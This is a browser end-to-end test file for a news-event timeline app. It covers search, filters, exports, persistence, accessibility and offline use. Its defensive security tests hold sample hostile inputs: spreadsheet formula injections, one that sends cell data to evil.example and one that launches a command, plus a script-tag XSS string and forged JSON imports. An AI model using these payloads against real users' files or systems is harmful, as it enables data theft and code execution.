// End-to-end tests of the timeline workspace: search, filters and counts, date
// brushing, URL state, persistence, exports, keyboard use, accessibility, offline.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import ICAL from 'ical.js';
import { openApp, appReady, dropFiles, timelineItems, artifact, useBrowser, DIST } from './support.mjs';

const require = createRequire(import.meta.url);
const env = useBrowser({ before, after });

const count = (page) => page.locator('li.event').count();
const resultText = (page) => page.locator('#result-count').textContent();

async function waitCount(page, n) {
  await page.waitForFunction((n) => document.querySelectorAll('li.event').length === n, n);
}

test('typo-tolerant search finds Zelenskyy from "zelenski" and highlights matches', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  const all = await count(page);
  await page.getByRole('searchbox', { name: /Search/ }).fill('zelenski');
  await page.waitForFunction((n) => document.querySelectorAll('li.event').length < n, all);
  const texts = await timelineItems(page).allTextContents();
  assert.ok(texts.length > 0);
  for (const t of texts) assert.match(t, /Zelensk/);
  assert.ok((await page.locator('li.event .evidence mark').count()) > 0, 'matches are highlighted');
  // A quoted phrase must match in order.
  await page.getByRole('searchbox', { name: /Search/ }).fill('"phone call"');
  await page.waitForFunction(() => /match/.test(document.querySelector('#result-count').textContent));
  for (const t of await timelineItems(page).allTextContents()) assert.match(t.toLowerCase(), /phone call/);
  assert.deepEqual(errors, []);
  await context.close();
});

test('each filter narrows the timeline to its live count; chips remove filters', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  const all = await count(page);
  const legends = await page.locator('.filters fieldset legend').allTextContents();
  assert.ok(legends.length >= 5, `${legends.length} facets`);
  assert.ok(legends.includes('PLOVER type'), legends.join(', '));
  // By legend: a facet with no value under a filter is hidden, so places shift.
  for (const legend of legends) {
    const fieldset = page.locator('.filters fieldset').filter({ has: page.locator('legend', { hasText: legend }) });
    const option = fieldset.locator('li').first();
    const expected = Number(await option.locator('.f-count').textContent());
    await option.locator('input[type=checkbox]').check();
    await waitCount(page, expected);
    assert.match(await resultText(page), new RegExp(`^${expected} of ${all} events match$`), legend);
    // A chip shows the filter; removing it restores everything.
    const chip = page.getByRole('list', { name: 'Active filters' }).locator('li');
    assert.equal(await chip.count(), 1, legend);
    await chip.getByRole('button').click();
    await waitCount(page, all);
  }
  // Two filters combine, and counts in other facets follow the search.
  await page.getByRole('searchbox', { name: /Search/ }).fill('putin');
  await page.waitForFunction((n) => document.querySelectorAll('li.event').length < n, all);
  const withSearch = await count(page);
  const typeBox = page.locator('.filters fieldset', { hasText: 'CAMEO type' });
  const sum = (await typeBox.locator('.f-count').allTextContents()).map(Number).reduce((a, b) => a + b, 0);
  assert.equal(sum, withSearch, 'event-type counts add up to the searched events');
  await page.getByRole('button', { name: 'Clear all', exact: true }).click();
  await waitCount(page, all);
  assert.deepEqual(errors, []);
  await context.close();
});

test('dragging across the histogram chooses a date range', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  const plot = page.locator('.hist-plot');
  const box = await plot.boundingBox();
  const bars = Number(await plot.getAttribute('data-bars'));
  assert.ok(bars >= 2);
  assert.match(await page.locator('path.hist-bars').first().getAttribute('d'), /^M\d/);
  // Drag over the last tenth of the plot: the latest months.
  await page.mouse.move(box.x + box.width * 0.92, box.y + box.height / 2);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.995, box.y + box.height / 2, { steps: 5 });
  await page.mouse.up();
  await page.waitForFunction(() => document.querySelector('#date-from').value !== '');
  assert.match(await page.locator('path.hist-bars.chosen').getAttribute('d'), /^M\d/, 'the chosen months are drawn apart');
  const from = await page.locator('#date-from').inputValue();
  const to = await page.locator('#date-to').inputValue();
  assert.ok(from <= to);
  const dates = await page.locator('li.event time').evaluateAll((ts) => ts.map((t) => t.getAttribute('datetime')));
  assert.ok(dates.length > 0);
  const firstDay = (v) => {
    const w = /^(\d{4})-W(\d{2})$/.exec(v);
    if (w) {
      // The Monday of ISO week w.
      const jan4 = new Date(Date.UTC(+w[1], 0, 4));
      const monday = new Date(jan4.getTime() - ((jan4.getUTCDay() + 6) % 7) * 86400000 + (+w[2] - 1) * 7 * 86400000);
      return monday.toISOString().slice(0, 10);
    }
    return v.length === 4 ? `${v}-01-01` : v.length === 7 ? `${v}-01` : v;
  };
  for (const d of dates) {
    const day = firstDay(d);
    assert.ok(day >= from && day <= to, `${d} in ${from}..${to}`);
  }
  assert.equal(await page.locator('li.event .undated').count(), 0, 'a date range leaves out undated events');
  assert.match(await page.getByRole('list', { name: 'Active filters' }).textContent(), /Dates:/);
  assert.deepEqual(errors, []);
  await context.close();
});

test('the whole view state lives in the URL: reload and back restore it', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  const all = await count(page);
  await page.locator('.filters fieldset', { hasText: 'CAMEO type' }).locator('input[type=checkbox]').first().check();
  const filtered = await count(page);
  assert.ok(filtered < all);
  await page.getByRole('searchbox', { name: /Search/ }).fill('erdogan');
  await page.waitForFunction((n) => document.querySelectorAll('li.event').length <= n, filtered);
  const both = await count(page);
  await page.getByRole('button', { name: 'year' }).click();
  assert.match(page.url(), /q=erdogan/);
  assert.match(page.url(), /type=/);
  assert.match(page.url(), /zoom=year/);
  await page.reload();
  await appReady(page);
  await waitCount(page, both);
  assert.equal(await page.getByRole('searchbox', { name: /Search/ }).inputValue(), 'erdogan');
  assert.equal(await page.getByRole('button', { name: 'year' }).getAttribute('aria-pressed'), 'true');
  // Back undoes the zoom, then the filter (the search was typed in place).
  await page.goBack();
  await page.waitForFunction(() => !/zoom=year/.test(location.hash));
  await page.goBack();
  await page.waitForFunction(() => !/type=/.test(location.hash));
  await page.waitForFunction((n) => document.querySelectorAll('li.event').length === n || true, all);
  assert.deepEqual(errors, []);
  await context.close();
});

test('articles and date settings survive a reload; clearing the workspace is kept too', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await waitCount(page, 0);
  await page.waitForTimeout(50);
  await dropFiles(page, [{ name: 'call.txt', text: 'On Monday, President Ilse Vantrow of Arnor spoke by phone with King Theodric Morwen of Rohan.\n' }]);
  await page.waitForSelector('li.article');
  const input = page.locator('li.article').first().getByLabel('Published');
  await input.fill('2025-11-26');
  await input.dispatchEvent('change');
  await page.waitForSelector('li.event time[datetime="2025-11-24"]');
  await page.waitForTimeout(300); // the save is asynchronous
  await page.reload();
  // The saved articles are analysed again in the worker, then replace the samples.
  await page.waitForFunction(() => document.querySelectorAll('li.article').length === 1);
  await page.waitForSelector('li.event time[datetime="2025-11-24"]');
  assert.match(await page.locator('li.article').textContent(), /set by you/);
  assert.equal(await page.locator('#sample-note').count(), 0);
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await page.waitForTimeout(300);
  await page.reload();
  await appReady(page);
  await page.waitForTimeout(300);
  assert.equal(await page.locator('li.article').count(), 0, 'a cleared workspace stays cleared');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a damaged store is reported and set aside; the page still works', async () => {
  const { context, page } = await openApp(env.browser, env.srv.url);
  await page.waitForTimeout(300);
  await page.evaluate(() => new Promise((resolve, reject) => {
    const req = indexedDB.open('dateline', 1);
    req.onsuccess = () => {
      const tx = req.result.transaction(['workspace'], 'readwrite');
      tx.objectStore('workspace').put('{not json', 'current');
      tx.oncomplete = () => resolve();
      tx.onerror = () => reject(tx.error);
    };
    req.onerror = () => reject(req.error);
  }));
  await page.reload();
  const alert = page.getByRole('alert');
  await alert.waitFor();
  assert.match(await alert.textContent(), /saved workspace could not be read.*set aside/);
  assert.ok((await count(page)) > 0, 'the samples are shown');
  await context.close();
});

async function download(page, format) {
  await page.locator('#export-format').selectOption(format);
  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export view' }).click()]);
  const file = artifact(dl.suggestedFilename());
  await dl.saveAs(file);
  return fs.readFileSync(file, 'utf8');
}

test('exports of the filtered view parse back: JSON, CSV, TimelineJS, iCalendar; JSON import restores', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  await page.locator('.filters fieldset', { hasText: 'CAMEO type' }).locator('input[type=checkbox]').first().check();
  const shown = await count(page);
  const json = JSON.parse(await download(page, 'json'));
  assert.equal(json.schema, 1);
  assert.equal(json.events.length, shown, 'only the filtered events');
  const csv = await download(page, 'csv');
  const rows = csv.trim().split('\n');
  assert.match(rows[0], /^id,date,date_text,cameo,type,plover,plover_mode,source/);
  assert.ok(rows.length - 1 >= shown);
  const tsv = (await download(page, 'cameo')).trim().split('\n').map((l) => l.split('\t'));
  assert.deepEqual(tsv[0], ['date', 'source_name', 'source_country', 'target_name', 'target_country', 'cameo', 'plover', 'place', 'article', 'evidence', 'date_assumed']);
  // Every event of CAMEO roots 03-20 has its PLOVER type; statements and appeals none.
  for (const e of json.events) {
    const root = Number(e.cameo.slice(0, 2));
    if (root >= 3) assert.match(e.plover ?? '', /^[A-Z]+$/, `${e.cameo} has a PLOVER type`);
    else assert.equal(e.plover, null, `${e.cameo} has no PLOVER type`);
  }
  assert.ok(tsv.length - 1 >= shown);
  for (const row of tsv.slice(1)) assert.equal(row.length, tsv[0].length);
  const tl = JSON.parse(await download(page, 'timelinejs'));
  assert.equal(typeof tl.title.text.headline, 'string');
  assert.equal(tl.events.length, json.events.filter((e) => e.date).length);
  for (const e of tl.events) {
    assert.match(e.start_date.year, /^\d{4}$/);
    assert.equal(typeof e.text.headline, 'string');
  }
  const ics = await download(page, 'ics');
  const cal = new ICAL.Component(ICAL.parse(ics));
  const vevents = cal.getAllSubcomponents('vevent');
  assert.equal(vevents.length, json.events.filter((e) => e.date).length);
  const byId = new Map(json.events.map((e) => [e.id, e]));
  for (const v of vevents) {
    const ev = new ICAL.Event(v);
    assert.ok(ev.startDate.isDate, 'all-day');
    assert.ok(ev.summary.length > 0);
    // CATEGORIES: the CAMEO type, then the PLOVER type where there is one.
    const source = byId.get(ev.uid.split('-')[0]);
    const categories = v.getFirstProperty('categories').getValues();
    assert.deepEqual(categories, source.plover ? [source.type, source.plover] : [source.type]);
  }
  // Importing the JSON export into an empty workspace restores its articles.
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await waitCount(page, 0);
  await page.waitForTimeout(50);
  await dropFiles(page, [{ name: 'dateline.json', text: JSON.stringify(json) }]);
  await page.waitForFunction(() => document.querySelectorAll('li.article').length === 5);
  assert.ok((await count(page)) > 0);
  assert.deepEqual(errors, []);
  await context.close();
});

test('keyboard only: / to search, j/k to move, Enter to open, Esc to close', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  await page.locator('body').click({ position: { x: 5, y: 5 } });
  await page.keyboard.press('/');
  await page.waitForFunction(() => document.activeElement?.id === 'search');
  await page.keyboard.press('Tab');
  await page.locator('h1').click();
  await page.keyboard.press('j');
  await page.waitForSelector('li.event[aria-current="true"]');
  const first = await page.locator('li.event[aria-current="true"]').getAttribute('data-pos');
  await page.keyboard.press('j');
  await page.waitForFunction((p) => document.querySelector('li.event[aria-current="true"]')?.dataset.pos !== p, first);
  await page.keyboard.press('k');
  await page.waitForFunction((p) => document.querySelector('li.event[aria-current="true"]')?.dataset.pos === p, first);
  await page.locator('h1').click();
  await page.keyboard.press('Enter');
  await page.getByRole('dialog').waitFor();
  assert.ok((await page.locator('mark.current').count()) === 1);
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  // The detail panel shows the selected event with its sources.
  assert.match(await page.getByRole('complementary', { name: 'Event' }).textContent(), /Sources \(\d+\)/);
  assert.deepEqual(errors, []);
  await context.close();
});

test('zoom, collapsible groups and swimlanes', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  await page.getByRole('button', { name: 'year', exact: true }).click();
  const groups = await page.locator('li.group').allTextContents();
  for (const g of groups) assert.match(g, /(\d{4}|Undated)/);
  const all = await count(page);
  const toggle = page.locator('li.group button').first();
  await toggle.click();
  assert.equal(await page.locator('li.group button').first().getAttribute('aria-expanded'), 'false');
  assert.ok((await count(page)) < all);
  await page.locator('li.group button').first().click();
  await waitCount(page, all);
  await page.getByRole('button', { name: 'Lanes by actor' }).click();
  await page.getByRole('list', { name: 'Swimlanes' }).waitFor();
  assert.ok((await page.locator('.lane').count()) >= 3);
  await page.locator('.lane .dot').first().dispatchEvent('click');
  await page.getByRole('dialog').waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

test('accessibility scan (axe-core): no serious or critical violations, light and dark', async () => {
  for (const scheme of ['light', 'dark']) {
    const context = await env.browser.newContext({ bypassCSP: true, colorScheme: scheme });
    const page = await context.newPage();
    await page.goto(env.srv.url);
    await appReady(page);
    await page.addScriptTag({ path: require.resolve('axe-core/axe.min.js') });
    const result = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
    const bad = result.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    assert.deepEqual(bad.map((v) => `${v.id}: ${v.nodes.length} × ${v.help} (${v.nodes[0]?.target})`), [], scheme);
    await context.close();
  }
});

test('phone width: nothing overflows sideways', async () => {
  const context = await env.browser.newContext({ viewport: { width: 390, height: 844 } });
  const page = await context.newPage();
  await page.goto(env.srv.url);
  await appReady(page);
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(width <= 392, `page is ${width}px wide at 390`);
  await page.screenshot({ path: artifact('phone.png') });
  await context.close();
});

test('every request goes to the site\'s own origin for the app\'s own files, and no user data is sent', async () => {
  const context = await env.browser.newContext();
  const requests = [];
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() }));
  const page = await context.newPage();
  await page.goto(env.srv.url);
  await appReady(page);
  await page.waitForTimeout(50); // drop listeners attach after mount
  // A user's own article, dropped, analysed and searched.
  const secret = 'Quorvantide';
  await dropFiles(page, [{ name: '2025-02-03-own.txt', text: `Minister Ilse ${secret} met President Amrod Castamir in Oslo on Monday.` }]);
  await page.waitForFunction((w) => document.body.innerText.includes(w), secret);
  await page.getByRole('searchbox').fill(secret.toLowerCase());
  await page.waitForTimeout(300);
  const origin = new URL(env.srv.url).origin;
  const files = new Set(fs.readdirSync(DIST, { recursive: true }).map((f) => '/' + f.split(path.sep).join('/')));
  assert.ok(requests.length >= 4, `${requests.length} requests`);
  for (const r of requests) {
    const u = new URL(r.url);
    assert.equal(u.origin, origin, r.url);
    assert.equal(r.method, 'GET', r.url);
    assert.equal(r.body, null, r.url);
    assert.ok(u.pathname === '/' || files.has(u.pathname), `not one of the app's files: ${r.url}`);
    assert.ok(!r.url.toLowerCase().includes(secret.toLowerCase()), r.url);
  }
  await context.close();
});

test('after the first visit the page works offline', async () => {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  await page.goto(env.srv.url);
  await appReady(page);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  await context.setOffline(true);
  await page.reload();
  await appReady(page);
  assert.ok((await count(page)) > 0);
  // The analysis worker came from the cache too: new text is analysed offline.
  await page.locator('summary', { hasText: 'Paste text' }).click();
  await page.getByLabel('Article text').fill('Foreign Minister Amrod Castamir visited Minas Tirith on 3 May 2024.');
  await page.getByRole('button', { name: 'Add pasted text' }).click();
  await page.waitForSelector('ol[aria-label="Timeline"] time[datetime="2024-05-03"]');
  await context.close();
});

test('the page\'s CSV and CAMEO-table downloads hold no cell a spreadsheet would run', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await waitCount(page, 0);
  await page.waitForTimeout(50); // drop listeners attach after mount
  const leads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
  await dropFiles(page, leads.map((l, i) => ({
    name: `formula-${i}.txt`,
    text: `date 2024-03-06\n${l} Turkish President Recep Tayyip Erdogan spoke by phone with Russian President Vladimir Putin on Monday.\n`,
  })));
  await page.waitForFunction(() => document.querySelectorAll('li.article').length === 4);
  await page.waitForFunction(() => document.querySelectorAll('li.event').length >= 1);
  const runs = (f) => /^ *[=+\-@\t\r]/.test(f);
  // A real CSV parser: quoted fields with commas, quotes and line breaks.
  const parseCsv = (text) => {
    const rows = []; let row = []; let f = ''; let q = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (q) { if (c === '"') { if (text[i + 1] === '"') { f += '"'; i++; } else q = false; } else f += c; }
      else if (c === '"') q = true;
      else if (c === ',') { row.push(f); f = ''; }
      else if (c === '\n') { row.push(f); rows.push(row); row = []; f = ''; }
      else f += c;
    }
    if (f || row.length) { row.push(f); rows.push(row); }
    return rows;
  };
  const csv = parseCsv(await download(page, 'csv'));
  assert.ok(csv.length >= 2, 'event rows');
  for (const row of csv) for (const f of row) assert.ok(!runs(f), `CSV cell a spreadsheet would run: ${f}`);
  const sentence = csv[0].indexOf('sentence');
  assert.ok(csv.slice(1).some((r) => r[sentence].startsWith('\'=HYPERLINK(')), 'the formula\'s text is kept, quoted');
  const tsv = (await download(page, 'cameo')).trim().split('\n').map((l) => l.split('\t'));
  for (const row of tsv) for (const f of row) assert.ok(!runs(f), `CAMEO-table cell a spreadsheet would run: ${f}`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('hostile articles: exports parse back intact (ical.js, JSON), names isolated and long ones cut', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await waitCount(page, 0);
  await page.waitForTimeout(50);
  const dir = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'tests', 'hostile-exports');
  const files = fs.readdirSync(dir).filter((f) => f.endsWith('.txt')).map((f) => ({ name: f, text: fs.readFileSync(path.join(dir, f), 'utf8') }));
  // Long enough to break a layout; the 10,000-character one of tests/hostile-exports is
  // too long to be read as a name at all (checked natively).
  const long = 'Q' + 'x'.repeat(999);
  files.push({ name: 'long-name.txt', text: `date 2024-03-06\nPresident Ilse ${long} of Arnor met King Theodric Morwen on Monday.\n` });
  await dropFiles(page, files);
  await page.waitForFunction((n) => document.querySelectorAll('li.article').length === n, files.length);
  await page.waitForFunction(() => document.querySelectorAll('li.event').length >= 4);
  const json = JSON.parse(await download(page, 'json'));
  const all = json.events.flatMap((e) => e.sources.map((s) => s.sentence)).join('\n');
  assert.ok(all.includes('<script>alert(1)</script>'), 'markup kept as text');
  assert.ok(all.includes('Van\u202etrow\u202c'), 'controls kept as text');
  // No script ran and no element came from the article.
  assert.equal(await page.locator('li.event img, li.event script').count(), 0);
  // iCalendar: ical.js reads only our own properties, and the summaries intact.
  const ics = await download(page, 'ics');
  const cal = new ICAL.Component(ICAL.parse(ics));
  const own = new Set(['uid', 'dtstamp', 'dtstart', 'dtend', 'summary', 'description', 'location', 'categories']);
  const vevents = cal.getAllSubcomponents('vevent');
  assert.equal(vevents.length, json.events.filter((e) => e.date).length);
  assert.deepEqual(cal.getAllSubcomponents().map((c) => c.name).filter((n) => n !== 'vevent'), []);
  for (const v of vevents) {
    for (const p of v.getAllProperties()) assert.ok(own.has(p.name), `property ${p.name} injected`);
    const ev = json.events.find((e) => e.id === new ICAL.Event(v).uid.split('-')[0]);
    assert.equal(new ICAL.Event(v).summary, ev.summary);
  }
  const tl = JSON.parse(await download(page, 'timelinejs'));
  for (const e of tl.events) assert.ok(!/<(?!\/?p>)/.test(e.text.text), `markup in ${e.text.text}`);
  // Names and evidence are isolated; a long name is cut in its chip, whole on hover.
  assert.ok(await page.locator('li.event .chips bdi').count() > 0);
  assert.ok(await page.locator('li.event .evidence bdi').count() > 0);
  await page.getByRole('searchbox', { name: /Search/ }).fill('Qxxxx');
  await page.waitForFunction(() => /match/.test(document.querySelector('#result-count').textContent));
  const chip = page.locator('li.event .chips li', { hasText: 'Qxxx' }).first();
  assert.ok((await chip.getAttribute('title')).includes(long), 'the whole name on hover');
  const box = await chip.boundingBox();
  assert.ok(box.width < 400, `the chip is cut: ${box.width}px`);
  const pageWidth = await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth + 1);
  assert.ok(pageWidth, 'the long name does not widen the page');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a crafted Dateline export is refused by name and the workspace stays as it was', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  const before = await count(page);
  const articles = await page.locator('li.article').count();
  await page.waitForTimeout(50);
  await dropFiles(page, [
    { name: 'wrong-types.json', text: '{"schema": 1, "articles": [{"text": 5, "file": []}, "x", null], "events": [1], "actors": {}}' },
    { name: 'deep.json', text: `{"schema": 1, "articles": ${'['.repeat(100000)}${']'.repeat(100000)}, "events": []}` },
  ]);
  const alert = page.getByRole('alert');
  await alert.waitFor();
  await page.waitForFunction(() => /deep\.json/.test(document.querySelector('[role=alert]').textContent) && /wrong-types\.json/.test(document.querySelector('[role=alert]').textContent));
  assert.equal(await count(page), before, 'the events are as they were');
  assert.equal(await page.locator('li.article').count(), articles, 'the articles are as they were');
  // A forged export: 200,000 events with one id and offsets past the text, beside one
  // article's text. Its events are never taken; its article is read afresh.
  const call = 'On 3 May 2024 Finnish President Alexander Stubb met Estonian Prime Minister Kristen Michal in Helsinki.';
  const forged = `{"schema": 1, "articles": [{"id": "a1", "file": "forged.txt", "text": "${call}"}], "actors": [], "events": [${
    Array.from({ length: 200000 }, () => '{"id":"e1","sources":[{"article":"a1","start":999999,"end":1}]}').join(',')}]}`;
  await dropFiles(page, [{ name: 'forged.json', text: forged }]);
  await page.waitForFunction((n) => document.querySelectorAll('li.article').length === n, articles + 1);
  await page.waitForFunction((n) => document.querySelectorAll('li.event').length > n, before);
  const after = await count(page);
  assert.ok(after > before && after < before + 5, `the forged events are not taken: ${before} → ${after}`);
  assert.ok(await page.getByText('Stubb', { exact: false }).count() > 0, 'the article is analysed afresh');
  assert.deepEqual(errors, []);
  await context.close();
});

test('an article\'s language is shown and can be set like its date: its events follow, and the setting survives a reload', async () => {
  const { context, page, errors } = await openApp(env.browser, env.srv.url);
  // The other languages' tables are not in the page's module: the worker fetches them
  // for the first article that needs them.
  const tables = [];
  page.on('request', (r) => { if (new URL(r.url()).pathname.includes('/languages/')) tables.push(new URL(r.url()).pathname); });
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await page.waitForTimeout(50);
  await dropFiles(page, [{ name: 'english.txt', text: 'Talks\n\nOn Monday, President Ilse Vantrow met King Theodric Brandydal in Geneva.\n' }]);
  await page.waitForFunction(() => document.querySelectorAll('li.event').length === 1);
  assert.deepEqual(tables, [], 'an English article needs no other language\'s tables');
  await page.getByRole('button', { name: 'Clear workspace' }).click();
  await page.waitForTimeout(50);
  await dropFiles(page, [{
    name: '2025-03-05-appel.txt',
    text: 'Appel entre Paris et Ankara\n\nLe président Emmanuel Macron s\'est entretenu lundi par téléphone avec le président turc Recep Tayyip Erdoğan.\n',
  }]);
  await page.waitForFunction(() => document.querySelectorAll('li.event').length === 1);
  assert.match(await page.locator('li.event').first().textContent(), /Macron/);
  assert.ok(tables.includes('/languages/time/fr.tsv') && tables.includes('/languages/country_names.tsv'), tables.join(', '));
  const select = page.getByLabel('Language');
  assert.equal(await select.inputValue(), '');
  assert.match(await select.locator('option:checked').textContent(), /French \(detected\)/);
  // Read as German, the French words are no event.
  await select.selectOption('de');
  await page.waitForFunction(() => document.querySelectorAll('li.event').length === 0);
  await page.waitForTimeout(300); // saved asynchronously
  await page.reload();
  await appReady(page);
  await page.waitForFunction(() => [...document.querySelectorAll('li.article')].some((li) => li.textContent.includes('2025-03-05-appel.txt')));
  assert.equal(await page.getByLabel('Language').inputValue(), 'de');
  // Back to detection: the call is on the timeline again.
  await page.getByLabel('Language').selectOption('');
  await page.waitForFunction(() => document.querySelectorAll('li.event').length === 1);
  assert.deepEqual(errors, []);
  await context.close();
});
